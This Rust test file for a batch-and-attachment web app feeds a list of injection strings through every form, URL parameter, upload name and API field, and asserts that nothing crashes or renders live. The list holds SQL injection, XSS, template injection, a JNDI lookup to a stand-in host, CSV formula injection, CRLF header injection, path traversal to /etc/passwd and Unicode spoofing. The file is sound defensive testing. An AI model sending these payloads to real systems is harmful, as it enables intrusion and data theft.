//! Names and strings that have broken other programs, through every text field of every form, of the API and of
//! uploads: nothing fails, and wherever they are shown they are shown as what they are.

use std::io::Cursor;

use reqwest::{Method, header::ACCEPT};
use uuid::Uuid;

use crate::support::{Answer, Client, TestApp, Tus, samples};

/// Stands for what a string would do if it got out of its place.
const TAG: &str = "<img src=x onerror=nasty>";

fn strings() -> Vec<String> {
    let plain = [
        // SQL
        "'; DROP TABLE users; --",
        "1' OR '1'='1",
        "\\",
        "%_%",
        "E'\\x27",
        "$1::uuid",
        // HTML, attributes, scripts
        TAG,
        "\"><script>nasty()</script>",
        "' autofocus onfocus=nasty() '",
        "</textarea></title></script><svg/onload=nasty()>",
        "javascript:nasty()",
        "&lt;b&gt;&amp;&#60;",
        "<!--",
        "]]>",
        // Templates and formats
        "{{ 4111*4111 }}{% raw %}${4111*4111}#{4111*4111}",
        "%s%s%n%x",
        "{0}{}",
        "${jndi:ldap://nasty.example/a}",
        // Formulas of spreadsheets
        "=1+1|cmd",
        "+1",
        "-2+3",
        "@SUM(1)",
        // Headers and log lines
        "a\r\nX-Nasty: 1\r\n\r\nbody",
        "a\nlevel=ERROR nasty",
        "\u{1b}[31mred\u{7}",
        // Paths
        "../../../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "C:\\nul",
        "CON",
        "NUL.pdf",
        ".",
        "..",
        "~root",
        ".htaccess",
        "file:///etc/passwd",
        // Unicode
        "invoice\u{202e}fdp.exe",
        "\u{2066}isolated\u{2069}",
        "аdmin",
        "ada\u{200b}",
        "\u{feff}bom",
        "e\u{301}e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
        "\u{fffd}\u{ffff}",
        "👩‍👩‍👧‍👦🏳️‍🌈",
        "田中さん مرحبا שלום",
        "İıſK",
        "\u{0}",
        "a\u{0}b",
        " ",
        "\t",
        "",
        "null",
        "undefined",
        "NaN",
        "-1",
        "99999999999999999999",
        "true",
    ];
    let long = ["x".repeat(5000), "ü".repeat(300), TAG.repeat(100)];
    plain.into_iter().map(str::to_owned).chain(long).collect()
}

/// Fails unless the answer is no failure of the server and lets nothing out.
#[track_caller]
fn is_calm(answer: &Answer, what: &str) {
    assert!(answer.status < 500, "{what}: {}\n{}", answer.status, answer.text());
    assert!(!answer.headers.contains_key("x-nasty"), "{what}: a header got in");
    if answer.header("content-type").starts_with("text/html") {
        let page = answer.text();
        for out in ["<img src=x", "<script>nasty", "<svg/onload", "' autofocus", "\" onerror", "16900321"] {
            assert!(!page.contains(out), "{what}: {out} got out\n{page}");
        }
    }
}

/// A browser that keeps its token.
struct Typist<'a> {
    by: &'a Client,
    token: String,
}

impl Typist<'_> {
    async fn send(&self, path: &str, fields: &[(&str, &str)]) -> Answer {
        let fields = [&[("csrf_token", self.token.as_str())], fields].concat();
        let answer =
            Answer::to(self.by.request(Method::POST, path).header(ACCEPT, "text/html").form(&fields)).await;
        is_calm(&answer, &format!("{path} {fields:?}"));
        answer
    }
}

async fn typist(by: &Client) -> Typist<'_> {
    Typist { by, token: by.token().await }
}

async fn look(by: &Client, paths: &[String]) {
    for path in paths {
        let answer = by.get_html(path).await;
        is_calm(&answer, path);
        assert_eq!(answer.status, 200, "{path}");
    }
}

#[tokio::test]
async fn every_field_of_every_form_takes_whatever_is_typed() {
    let app = TestApp::start();
    let admin = app.admin().await;
    let typist = typist(&admin).await;
    let batch = admin.make_batch("B-1").await;
    let file = admin.store_id(&batch, "a.pdf", &samples::pdf("a")).await;
    let site = app.value("SELECT id FROM sites WHERE is_default");
    app.add_user("pat", stillage::domain::access::Role::Staff, &[]).await;
    let pat = app.value("SELECT id FROM users WHERE username = 'pat'");
    let number = || Uuid::new_v4().to_string();
    for text in &strings() {
        let text = text.as_str();
        typist.send("/batches", &[("number", text), ("product", "Soap"), ("site_id", &site)]).await;
        let fields = [("number", &*number()), ("product", text), ("notes", text), ("site_id", &site)];
        typist.send("/batches", &fields).await;
        typist.send("/batches", &[("number", &number()), ("site_id", text)]).await;
        let edit = format!("/batches/{batch}/edit");
        typist.send(&edit, &[("number", "B-1"), ("product", text), ("notes", text)]).await;
        typist.send(&format!("/attachments/{file}/edit"), &[("kind", "label"), ("note", text)]).await;
        typist.send(&format!("/attachments/{file}/edit"), &[("kind", text), ("note", "")]).await;
        typist.send(&format!("/batches/{batch}/files/kind"), &[("ids", text), ("kind", text)]).await;
        for field in ["expires_in_hours", "password", "max_downloads"] {
            let own = if field == "expires_in_hours" { text } else { "1" };
            let fields = [("expires_in_hours", own), (field, text)];
            typist.send(&format!("/batches/{batch}/shares"), &fields).await;
        }
        typist.send("/account", &[("display_name", text)]).await;
        typist.send("/account/password", &[("current", text), ("password", text)]).await;
        typist.send("/account/two-factor/confirm", &[("code", text)]).await;
        for field in ["name", "scope", "site", "days"] {
            let value = |own, usual| if field == own { text } else { usual };
            let fields = [
                ("name", value("name", "script")),
                ("scope", value("scope", "read")),
                ("site", value("site", "")),
                ("days", value("days", "30")),
            ];
            typist.send("/account/tokens", &fields).await;
        }
        typist.send("/admin/users", &[("username", text), ("role", "staff"), ("sites", &site)]).await;
        let fields = [("username", &*number()), ("display_name", text), ("role", "staff"), ("sites", &site)];
        typist.send("/admin/users", &fields).await;
        let fields = [("display_name", text), ("role", "staff"), ("sites", &site)];
        typist.send(&format!("/admin/users/{pat}"), &fields).await;
        typist.send("/admin/users", &[("username", &number()), ("role", text), ("sites", text)]).await;
        typist.send("/admin/sites", &[("name", text)]).await;
        typist.send("/admin/two-factor", &[("required", text)]).await;
        typist.send("/admin/storage/move", &[("to", text)]).await;
    }
    // What was kept is shown as what it is, to somebody who signs in anew: attempts at passwords end nothing.
    let mut paths = vec![
        "/batches".to_owned(),
        "/trash".to_owned(),
        "/account".to_owned(),
        "/account/tokens".to_owned(),
        "/admin/users".to_owned(),
        "/admin/sites".to_owned(),
        "/admin/shares".to_owned(),
        "/admin/quarantine".to_owned(),
        format!("/admin/users/{pat}"),
        format!("/batches/{batch}"),
        format!("/batches/{batch}/edit"),
        format!("/batches/{batch}/label"),
        format!("/batches/{batch}/shares"),
        format!("/attachments/{file}"),
    ];
    let ids = app.value("SELECT string_agg(id::text, ',') FROM batches");
    paths.extend(ids.split(',').take(40).map(|id| format!("/batches/{id}")));
    look(&admin, &paths).await;
    assert_ne!(app.value("SELECT count(*) FROM batches WHERE product LIKE '%<img%'"), "0");
    assert_eq!(app.value("SELECT count(*) FROM users WHERE username = 'ada'"), "1");
}

#[tokio::test]
async fn every_question_in_an_address_can_be_asked() {
    let app = TestApp::start();
    let admin = app.admin().await;
    let batch = admin.make_batch("B-1").await;
    let stranger = typist(&admin).await;
    let visitor = app.stranger();
    let signing = typist(&visitor).await;
    for text in &strings() {
        let asked =
            percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC).to_string();
        if asked.len() > 20_000 {
            continue;
        }
        for path in [
            format!("/batches?q={asked}"),
            format!("/batches?status={asked}&site={asked}&sort={asked}"),
            format!("/batches?cursor={asked}"),
            format!("/batches/{batch}?name={asked}&kind={asked}&sort={asked}"),
            format!("/batches/{batch}?cursor={asked}"),
            format!("/batches/labels?ids={asked}&size={asked}"),
            format!("/batches/{asked}"),
            format!("/attachments/{asked}/download"),
            format!("/api/production/attachment/{asked}"),
            format!("/api/production/batches?q={asked}&cursor={asked}&limit={asked}"),
            format!("/admin/users?q={asked}&role={asked}&state={asked}&site={asked}"),
            format!("/admin/shares?cursor={asked}"),
            format!("/s/{asked}"),
            format!("/password?token={asked}"),
            format!("/setup?token={asked}"),
            format!("/login?next={asked}"),
            format!("/static/{asked}"),
        ] {
            is_calm(&admin.get_html(&path).await, &path);
        }
        let fields = [("username", text.as_str()), ("password", text), ("next", text)];
        signing.send("/login", &fields).await;
        signing.send("/login/second", &[("half", text), ("code", text)]).await;
        signing.send("/password", &[("token", text), ("password", text)]).await;
        signing.send("/setup", &[("token", text), ("username", text), ("password", text)]).await;
        stranger.send(&format!("/s/{asked}/download"), &[("file", text), ("password", text)]).await;
    }
    admin.get_html("/batches").await.is(200);
}

#[tokio::test]
async fn every_name_of_a_file_is_harmless_wherever_it_goes() {
    let app = TestApp::start();
    let staff = app.staff().await;
    let batch = staff.make_batch("B-1").await;
    let tus = Tus::of(&staff).await;
    let bytes = samples::pdf("a");
    for text in &strings() {
        for name in [format!("{text}.pdf"), text.clone()] {
            is_calm(&staff.upload(&batch, &[(&name, &bytes)]).await, &name);
            let created = Answer::to(tus.creation(&batch, &name, bytes.len())).await;
            is_calm(&created, &name);
            if created.status == 201 {
                is_calm(&tus.append(created.location(), 0, &bytes).await, &name);
            }
            let body = serde_json::json!({ "number": name, "product": name, "notes": name });
            let request = staff.request(Method::POST, "/api/production/batches");
            let token = staff.token().await;
            is_calm(&Answer::to(request.header("X-CSRF-Token", token).json(&body)).await, &name);
        }
    }
    let rows: usize = app.kept().rows.parse().unwrap();
    assert!(rows > 60, "{rows}");
    let folder = app.store().join("batches");
    assert_eq!(app.kept().published.len(), rows, "each in the one folder");
    assert!(std::fs::read_dir(&folder).unwrap().all(|entry| entry.unwrap().file_type().unwrap().is_file()));

    let page = staff.get_html(&format!("/batches/{batch}")).await.is(200);
    is_calm(&page, "the batch");
    let turned = |answer: &Answer| answer.text().contains(['\u{202e}', '\u{2066}']);
    assert!(!turned(&page), "a name turns the text of the page round");
    let ids = app.value("SELECT string_agg(id::text, ',') FROM attachments");
    for id in ids.split(',') {
        let download = staff.get(&format!("/attachments/{id}/download")).await.is(200);
        let disposition = download.header("content-disposition");
        assert!(disposition.starts_with("attachment; filename=\""), "{disposition}");
        assert!(disposition.bytes().all(|byte| (0x20..0x7f).contains(&byte)), "{disposition}");
        let page = staff.get_html(&format!("/attachments/{id}")).await.is(200);
        is_calm(&page, id);
        assert!(!turned(&page), "{id}: a name turns the text of the page round");
        is_calm(&staff.get(&format!("/attachments/{id}/receipt")).await.is(200), id);
        let shown = staff.get(&format!("/api/production/attachments/{id}")).await.is(200).json();
        let name = shown["stored_name"].as_str().unwrap();
        assert!(!name.contains(['/', '\\', '\0', '\n', '\r', '\u{202e}', '\u{1b}']), "{name:?}");
    }
    let archive = staff.get(&format!("/batches/{batch}/archive.zip")).await.is(200);
    let mut zip = zip::ZipArchive::new(Cursor::new(archive.body)).unwrap();
    assert_eq!(zip.len(), rows + 1);
    for nth in 0..zip.len() {
        let file = zip.by_index(nth).unwrap();
        let name = file.name().unwrap().into_owned();
        assert!(file.enclosed_name().is_some() && !name.contains(['/', '\\', '\0']), "{name:?}");
        assert!(!["", ".", ".."].contains(&name.as_str()));
    }
    let mut manifest = String::new();
    std::io::Read::read_to_string(&mut zip.by_index(rows).unwrap(), &mut manifest).unwrap();
    for cell in manifest.lines().flat_map(|line| line.split(',')) {
        let begin = cell.trim_start_matches('"').chars().next().unwrap_or('x');
        assert!(!"=+-@\t\r".contains(begin), "a formula in the manifest: {cell}");
    }
}
